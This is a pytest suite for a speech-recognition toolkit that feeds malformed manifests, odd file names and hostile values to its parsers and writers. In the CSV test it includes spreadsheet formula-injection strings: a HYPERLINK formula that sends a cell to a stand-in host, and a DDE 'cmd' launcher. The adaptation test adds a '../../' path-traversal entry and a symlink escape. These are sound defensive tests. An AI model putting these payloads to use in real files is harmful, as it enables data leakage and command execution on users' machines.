"""Hostile inputs: manifests built to mislead or crash the reader, and file names and texts built to break
what asrkit writes (transcript lines, CSV reports, live stream output, an adaptation session's takes).

The manifest cases are a catalogue: each row is one kind of bad manifest and what reading it must give.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from dataclasses import dataclass
from pathlib import Path

import jiwer
import numpy as np
import pytest
import soundfile as sf

from asrkit.cli import EXIT_OK, EXIT_USAGE, LiveTranscript, main
from asrkit.contracts import Transcript
from asrkit.evaluate import NothingToScoreError, Outcome, build_report, scorable
from asrkit.manifest import ManifestError, ManifestWarning, read_manifest
from asrkit.report import write_csv
from asrkit.streaming import StreamResult
from asrkit.text import normalize_text

BOM = b"\xef\xbb\xbf"
# deeper than Python's recursion limit, so a naive json.loads overflows
DEEP = 100_000


@dataclass(frozen=True)
class Refused:
    """Reading must raise ManifestError with a message matching this regular expression."""

    message: str


@dataclass(frozen=True)
class Parsed:
    """Reading must give these entries, and warn (ManifestWarning) only where ``warning`` says."""

    # (audio path relative to the manifest's folder, transcript, duration_s, speaker) per entry
    rows: tuple[tuple[str, str, float | None, str], ...]
    # a regular expression the one ManifestWarning must match; None: no warning at all
    warning: str | None = None


def jsonl(*entries: str) -> bytes:
    return "".join(e + "\n" for e in entries).encode()


HI = '{"audio_filepath": "a.wav", "text": "hi"}'
CASES = [
    # encodings and line ends
    (
        "utf-8 BOM before a TSV header",
        "m.tsv",
        BOM + b"path\ttranscript\na.wav\thi\n",
        Parsed((("a.wav", "hi", None, ""),)),
    ),
    ("utf-8 BOM before JSON lines", "m.jsonl", BOM + jsonl(HI), Parsed((("a.wav", "hi", None, ""),))),
    (
        "Windows line ends",
        "m.tsv",
        b"path\ttranscript\tduration_s\r\na.wav\thi there\t1.5\r\n",
        Parsed((("a.wav", "hi there", 1.5, ""),)),
    ),
    (
        "UTF-16, as some editors save 'Unicode'",
        "m.tsv",
        "path\ttranscript\na.wav\thi\n".encode("utf-16"),
        Refused(r"m\.tsv: not UTF-8 text; it is UTF-16"),
    ),
    # nothing to read
    ("zero bytes", "m.tsv", b"", Refused(r"m\.tsv: empty file")),
    ("a header and no rows", "m.tsv", b"path\ttranscript\n", Refused(r"m\.tsv: no entries")),
    ("only blank JSON lines", "m.jsonl", b"\n  \n\n", Refused(r"m\.jsonl: no entries")),
    # fields of the wrong type or shape
    (
        '"text": null',
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": null}'),
        Refused(r"m\.jsonl:1: field 'text' must be a string, got null"),
    ),
    (
        '"text": a number, on line 2',
        "m.jsonl",
        jsonl(HI, '{"audio_filepath": "b.wav", "text": 42}'),
        Refused(r"m\.jsonl:2: field 'text' must be a string, got 42"),
    ),
    (
        '"text": a list',
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": ["hi"]}'),
        Refused(r":1: field 'text' must be a string"),
    ),
    (
        '"audio_filepath": null',
        "m.jsonl",
        jsonl('{"audio_filepath": null, "text": "hi"}'),
        Refused(r":1: field 'audio_filepath' must be a string, got null"),
    ),
    (
        '"audio_filepath": ""',
        "m.jsonl",
        jsonl('{"audio_filepath": " ", "text": "hi"}'),
        Refused(r":1: field 'audio_filepath' must name an audio file"),
    ),
    ("an empty path column", "m.tsv", b"path\ttranscript\n\thi\n", Refused(r"m\.tsv:2: field 'path' must name")),
    ("a NUL byte in a path", "m.tsv", b"path\ttranscript\na\x00.wav\thi\n", Refused(r":2: field 'path' must name")),
    (
        '"speaker": an object',
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": {}}'),
        Refused(r":1: field 'speaker' must be a string or an integer"),
    ),
    (
        "a tab inside a transcript",
        "m.tsv",
        b"path\ttranscript\na.wav\thi\tthere\n",
        Refused(r"m\.tsv:2: expected 2 tab-separated fields"),
    ),
    (
        "a field over csv's size limit",
        "m.tsv",
        b"path\ttranscript\na.wav\thi\nb.wav\t" + b"x" * 200_000 + b"\n",
        Refused(r"m\.tsv:3: field larger than field limit"),
    ),
    (
        "an integer of more digits than Python converts",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "speaker": ' + "7" * 5000 + "}"),
        Refused(r":1: not JSON"),
    ),
    (
        "JSON nested past the recursion limit",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "x": ' + "[" * DEEP + "]" * DEEP + "}"),
        Refused(r":1: JSON nested too deeply"),
    ),
    # durations that are not a length of time
    (
        "duration nan",
        "m.tsv",
        b"path\ttranscript\tduration_s\na.wav\thi\tnan\n",
        Refused(r"m\.tsv:2: duration 'nan' must be a finite number of seconds"),
    ),
    (
        "duration NaN, a JSON extension Python accepts",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": NaN}'),
        Refused(r":1: duration nan must be a finite"),
    ),
    (
        "duration -Infinity",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": -Infinity}'),
        Refused(r":1: duration -inf must be a finite"),
    ),
    (
        "a negative duration",
        "m.tsv",
        b"path\ttranscript\tduration_s\na.wav\thi\t-1.5\n",
        Refused(r":2: duration '-1.5' must be a finite number of seconds, at least 0"),
    ),
    (
        "duration true",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": true}'),
        Refused(r":1: duration True is not a number"),
    ),
    (
        "a duration too large for a float",
        "m.jsonl",
        jsonl('{"audio_filepath": "a.wav", "text": "hi", "duration": 1' + "0" * 400 + "}"),
        Refused(r":1: duration \d+ is not a number"),
    ),
    # read, with a warning or as they are
    (
        "the same file on two lines",
        "m.tsv",
        b"path\ttranscript\na.wav\thi\nb.wav\tyo\na.wav\thi\n",
        Parsed(
            (("a.wav", "hi", None, ""), ("b.wav", "yo", None, ""), ("a.wav", "hi", None, "")),
            warning=r"m\.tsv: 1 audio file\(s\) appear more than once .*a\.wav on lines 2, 4",
        ),
    ),
    (
        "the same file spelt two ways",
        "m.jsonl",
        jsonl(HI, '{"audio_filepath": "sub/../a.wav", "text": "hi"}'),
        Parsed((("a.wav", "hi", None, ""), ("sub/../a.wav", "hi", None, "")), warning=r"a\.wav on lines 1, 2"),
    ),
    (
        "an empty transcript (a clip of silence to train on)",
        "m.tsv",
        b"path\ttranscript\na.wav\t\n",
        Parsed((("a.wav", "", None, ""),)),
    ),
    (
        "numbered and missing speakers",
        "m.jsonl",
        jsonl(
            '{"audio_filepath": "a.wav", "text": "hi", "speaker": 7}',
            '{"audio_filepath": "b.wav", "text": "yo", "speaker": null}',
        ),
        Parsed((("a.wav", "hi", None, "7"), ("b.wav", "yo", None, ""))),
    ),
]


@pytest.mark.parametrize("kind, name, content, expected", CASES, ids=[c[0] for c in CASES])
def test_hostile_manifest_catalogue(tmp_path, kind, name, content, expected):
    manifest = tmp_path / name
    manifest.write_bytes(content)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        if isinstance(expected, Refused):
            with pytest.raises(ManifestError, match=expected.message):
                read_manifest(manifest)
            return
        utterances = read_manifest(manifest)
    got = [(u.audio_path, u.transcript, u.duration_s, u.speaker) for u in utterances]
    assert got == [(tmp_path / p, t, d, s) for p, t, d, s in expected.rows]
    messages = [str(w.message) for w in caught if issubclass(w.category, ManifestWarning)]
    if expected.warning is None:
        assert messages == []
    else:
        assert len(messages) == 1 and re.search(expected.warning, messages[0]), messages


def test_the_catalogue_covers_at_least_fifteen_kinds():
    assert len({kind for kind, *_ in CASES}) >= 15


# --- scoring: empty references and empty sets ---


def outcome(text: str) -> Outcome:
    return Outcome(Transcript(text=text, duration_s=1.0, model="m"))


def test_empty_references_are_left_out_of_the_wer_with_a_warning_naming_them(tmp_path):
    from asrkit.manifest import Utterance

    utterances = [
        Utterance(tmp_path / "a.wav", "the cat sat"),
        Utterance(tmp_path / "silence.wav", " ... "),
        Utterance(tmp_path / "b.wav", "on the mat"),
    ]
    hypotheses = ["the cat sat down", "oh hello there", "on a mat"]
    with pytest.warns(ManifestWarning, match=r"1 utterance\(s\) with an empty reference .*silence\.wav"):
        report = build_report("m", utterances, [outcome(h) for h in hypotheses])
    assert [r.utterance.id for r in report.rows] == ["a", "b"]
    # jiwer on the scorable pairs alone: the hallucinated words on silence count nowhere
    expected = jiwer.wer(["the cat sat", "on the mat"], ["the cat sat down", "on a mat"])
    assert report.corpus.wer == pytest.approx(expected)


@pytest.mark.parametrize("references", [[], ["", "...", "  "]], ids=["no utterances", "only empty references"])
def test_nothing_to_score_is_an_error_not_a_zero_wer(tmp_path, references):
    from asrkit.manifest import Utterance

    utterances = [Utterance(tmp_path / f"{i}.wav", r) for i, r in enumerate(references)]
    with pytest.raises(NothingToScoreError, match="nothing to score"):
        build_report("m", utterances, [outcome("words") for _ in utterances])
    with pytest.raises(NothingToScoreError):
        scorable(utterances)


# --- the command line ---


@pytest.fixture(scope="module")
def clips(tmp_path_factory) -> Path:
    """A folder of two short noise clips and a manifest naming one twice and giving another an empty reference."""
    folder = tmp_path_factory.mktemp("clips")
    rng = np.random.default_rng(0)
    for name in ("a.wav", "b.wav"):
        sf.write(folder / name, (0.05 * rng.standard_normal(16_000)).astype(np.float32), 16_000)
    (folder / "m.tsv").write_text("path\ttranscript\na.wav\tone two\nb.wav\t\na.wav\tone two\n", encoding="utf-8")
    (folder / "silence.tsv").write_text("path\ttranscript\nb.wav\t\n", encoding="utf-8")
    return folder


def test_eval_of_an_empty_manifest_exits_2_before_loading_a_model(tmp_path, capsys):
    (tmp_path / "m.jsonl").write_text("\n")
    assert main(["eval", str(tmp_path / "m.jsonl"), "--model", "no-such-model"]) == EXIT_USAGE
    assert "no entries" in capsys.readouterr().err


@pytest.mark.parametrize("command", ["eval", "compare"])
@pytest.mark.parametrize("limit", ["0", "-1", "two"])
def test_limit_must_be_a_whole_number_of_at_least_one(tmp_path, capsys, command, limit):
    models = ["--models", "a", "b"] if command == "compare" else []
    with pytest.raises(SystemExit) as exit_:
        main([command, str(tmp_path / "m.tsv"), f"--limit={limit}", *models])
    assert exit_.value.code == EXIT_USAGE
    assert re.search(r"--limit: (must be at least 1|expected a whole number)", capsys.readouterr().err)


def test_eval_warns_in_plain_lines_and_scores_only_what_can_be_scored(tiny_model_dir, clips, tmp_path, capsys):
    out_json = tmp_path / "r.json"
    code = main(["eval", str(clips / "m.tsv"), "--model", str(tiny_model_dir), "--no-cache", "--json", str(out_json)])
    err = capsys.readouterr().err
    assert code == EXIT_OK, err
    warned = [line for line in err.splitlines() if line.startswith("warning: ")]
    assert len(warned) == 2, err
    assert "a.wav on lines 2, 4" in warned[0] and "b.wav" in warned[1] and "empty reference" in warned[1]
    assert "ManifestWarning" not in err and "warnings.warn" not in err
    assert json.loads(out_json.read_text())["utterances"] == 2


def test_eval_with_only_empty_references_exits_2(tiny_model_dir, clips, capsys):
    assert main(["eval", str(clips / "silence.tsv"), "--model", str(tiny_model_dir), "--no-cache"]) == EXIT_USAGE
    captured = capsys.readouterr()
    assert "nothing to score" in captured.err and "corpus WER" not in captured.out


def test_transcribe_refuses_two_inputs_for_one_output_file_before_loading_anything(tmp_path, capsys):
    first, second = tmp_path / "a" / "take.wav", tmp_path / "b" / "take.flac"
    out = tmp_path / "out"
    code = main(["transcribe", str(first), str(second), "--output-dir", str(out), "--model", "no-such-model"])
    assert code == EXIT_USAGE
    err = capsys.readouterr().err
    assert str(first) in err and str(second) in err and "take.txt" in err
    assert not out.exists()


def test_transcribe_lines_escape_tabs_and_newlines_in_file_names(tiny_model_dir, clips, tmp_path, capsys):
    odd = tmp_path / "two\nlines\tand a \\ backslash.wav"
    odd.write_bytes((clips / "a.wav").read_bytes())
    assert main(["transcribe", str(odd), str(clips / "b.wav"), "--model", str(tiny_model_dir)]) == EXIT_OK
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 2
    escaped = str(tmp_path) + "/two\\nlines\\tand a \\\\ backslash.wav"
    assert lines[0].split("\t")[0] == escaped and lines[1].split("\t")[0] == str(clips / "b.wav")
    with pytest.raises(SystemExit):
        main(["transcribe", "--help"])
    assert "\\t, \\n" in " ".join(capsys.readouterr().out.split())


# --- CSV reports ---


def test_csv_text_cells_cannot_start_a_formula_and_numbers_stay_numbers(tmp_path):
    from asrkit.manifest import Utterance

    attacks = [
        '=HYPERLINK("http://example.invalid/?"&A1,"open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tlooks blank",
        "\rlooks blank",
    ]
    utterances = [Utterance(tmp_path / f"{i}.wav", "one two", speaker=a) for i, a in enumerate(attacks)]
    utterances += [Utterance(tmp_path / "@SUM(A1).wav", "three four", speaker="ana = bob")]
    outcomes = [outcome("one two") for _ in attacks] + [Outcome(None, error=attacks[1])]
    report = build_report("m", utterances, outcomes)
    with write_csv(report, tmp_path / "r.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["speaker"] for r in rows] == ["'" + a for a in attacks] + ["ana = bob"]
    assert rows[0]["utterance"] == "0" and rows[0]["reference"] == "one two"
    assert rows[-1]["utterance"] == "'@SUM(A1)" and rows[-1]["error"] == "'" + attacks[1]
    assert float(rows[-1]["wer"]) == 1.0 and int(rows[-1]["deletions"]) == 2 and float(rows[0]["wer"]) == 0.0


# --- live stream output ---


def results(n_words: int) -> list[StreamResult]:
    """A session's results: the partial grows a word at a time, and every third update commits one more word."""
    words = [f"word{i}" for i in range(n_words)]
    out = []
    for i in range(3 * n_words):
        committed = words[: i // 3]
        partial = words[i // 3 : i // 3 + 1 + i % 3]
        out.append(StreamResult(" ".join(committed), " ".join(partial)))
    out.append(StreamResult(" ".join(words), ""))
    return out


def test_stream_output_off_a_terminal_is_each_committed_piece_once():
    session = results(2000)
    final = session[-1].committed
    out = io.StringIO()
    live = LiveTranscript(out, tty=False)
    for r in session:
        live(r)
    live.close()
    text = out.getvalue()
    assert " ".join(text.split()) == final and "[" not in text and "\r" not in text
    # the whole transcript once, a newline per piece: linear in the transcript, however many updates
    assert len(text) <= len(final) + 2000
    everything_again = sum(len(f"{r.committed} [{r.partial}]\n") for r in session)
    assert everything_again > 500 * len(text)


def test_stream_output_on_a_terminal_rewrites_the_partial_in_place():
    out = io.StringIO()
    live = LiveTranscript(out, tty=True)
    for r in results(3):
        live(r)
    live.close()
    text = out.getvalue()
    # what stays on screen: erased partials removed, the committed words once each, in order
    assert re.sub(r"\[[^\]]*\]\r\x1b\[K", "", text) == "word0\nword1\nword2\n"
    assert "[word0 word1 word2]\r\x1b[K" in text
    # a session that ends with a partial showing takes it off the screen
    live(StreamResult("word0 word1 word2", "word3"))
    live.close()
    assert out.getvalue() == text + "[word3]\r\x1b[K"


def test_stream_command_prints_the_transcript_once(tiny_model_dir, clips, capsys):
    assert main(["stream", str(clips / "a.wav"), "--model", str(tiny_model_dir)]) == EXIT_OK
    out = capsys.readouterr().out
    live, _, rest = out.partition("--\n")
    streamed = rest.splitlines()[0].removeprefix("streamed: ")
    assert " ".join(live.split()) == streamed


# --- an adaptation session's manifest ---


def test_adaptation_takes_are_confined_to_the_session_folder(tmp_path):
    from asrkit.adapt import AdaptSession

    session = AdaptSession.open(user="ana", root=tmp_path, count=6)
    tone = (0.1 * np.sin(np.arange(8000) / 5)).astype(np.float32)
    session.add_take(index=0, audio=tone)
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    sf.write(outside / "001.flac", tone, 16_000)
    sf.write(outside / "002.flac", tone, 16_000)
    (session.folder / "takes" / "002.flac").symlink_to(outside / "002.flac")
    with session.manifest.open("a", encoding="utf-8") as f:
        f.write(f"../../elsewhere/001.flac\t0.5\t{session.prompts[1]}\tana\t{normalize_text(session.prompts[1])}\n")
        f.write(f"takes/002.flac\t0.5\t{session.prompts[2]}\tana\t{normalize_text(session.prompts[2])}\n")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        reopened = AdaptSession.open(user="ana", root=tmp_path)
    assert sorted(reopened.takes) == [0]
    named = " ".join(str(w.message) for w in caught if issubclass(w.category, ManifestWarning))
    assert "elsewhere/001.flac" in named and "takes/002.flac" in named
